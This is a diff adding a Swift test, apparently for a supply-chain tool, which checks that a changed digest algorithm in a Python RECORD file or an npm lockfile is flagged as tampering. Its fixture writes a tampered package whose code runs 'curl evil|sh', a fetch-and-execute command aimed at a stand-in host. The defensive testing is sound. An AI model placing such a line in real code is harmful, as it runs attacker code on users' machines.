@@ -28,6 +28,38 @@ import Testing
         #expect(approvedRules == ["drift:new-transitive"])
     }
 
+    /// A digest of another algorithm cannot vouch for the same content: a RECORD row moved from sha256
+    /// to sha384 beside a changed file, and an npm integrity that gains a sha512 (the one npm checks),
+    /// are tampering, not "no change" (found by helper-73).
+    @Test func aDigestOfAnotherAlgorithmIsNotTheSameContent() throws {
+        let dir = try scratchDirectory()
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let make = #"""
+        import os, hashlib, base64, json
+        def mk(root, content, alg):
+            sp = f'{root}/usr/lib/python3/site-packages'; os.makedirs(sp + '/foo'); os.makedirs(sp + '/foo-1.0.dist-info')
+            open(sp + '/foo/__init__.py', 'wb').write(content)
+            open(sp + '/foo-1.0.dist-info/METADATA', 'w').write('Metadata-Version: 2.1\nName: foo\nVersion: 1.0\n')
+            h = base64.urlsafe_b64encode(getattr(hashlib, alg)(content).digest()).rstrip(b'=').decode()
+            open(sp + '/foo-1.0.dist-info/RECORD', 'w').write(f'foo/__init__.py,{alg}={h},{len(content)}\nfoo-1.0.dist-info/METADATA,,\nfoo-1.0.dist-info/RECORD,,\n')
+        mk('base', b'print("good")\n', 'sha256')
+        mk('current', b'import os; os.system("curl evil|sh")\n', 'sha384')
+        def lock(integrity):
+            return {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": {"": {"name": "app", "version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}},
+              "node_modules/left-pad": {"version": "1.3.0", "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz", "integrity": integrity}}}
+        sha1 = "sha1-" + base64.b64encode(bytes.fromhex('5b8a3a7765dfe001261dde915589e782f8c94d1e')).decode()
+        os.makedirs('lb'); os.makedirs('lc')
+        json.dump(lock(sha1), open('lb/package-lock.json', 'w'))
+        json.dump(lock(sha1 + " sha512-" + base64.b64encode(b'\x66' * 64).decode()), open('lc/package-lock.json', 'w'))
+        """#
+        let made = try runProcess("/bin/sh", ["-c", "cd \"$1\" && python3 -c \"$0\"", make, dir.path])
+        try #require(made.code == 0, "\(made.err)")
+        let python = try runProcess(provenantBinary, ["diff", dir.path + "/base", dir.path + "/current", "--fail-on", "low"])
+        #expect(python.code == 1 && python.out.contains("drift:tampered") && python.out.contains("file digests of another algorithm"), "\(python.out)")
+        let npm = try runProcess(provenantBinary, ["diff", dir.path + "/lb/package-lock.json", dir.path + "/lc/package-lock.json", "--fail-on", "low"])
+        #expect(npm.code == 1 && npm.out.contains("digests were SHA-1, now SHA-512"), "\(npm.out)")
+    }
+
     @Test func malformedInputIsExitTwoNamingTheFile() throws {
         let dir = try scratchDirectory()
         defer { try? FileManager.default.removeItem(at: dir) }
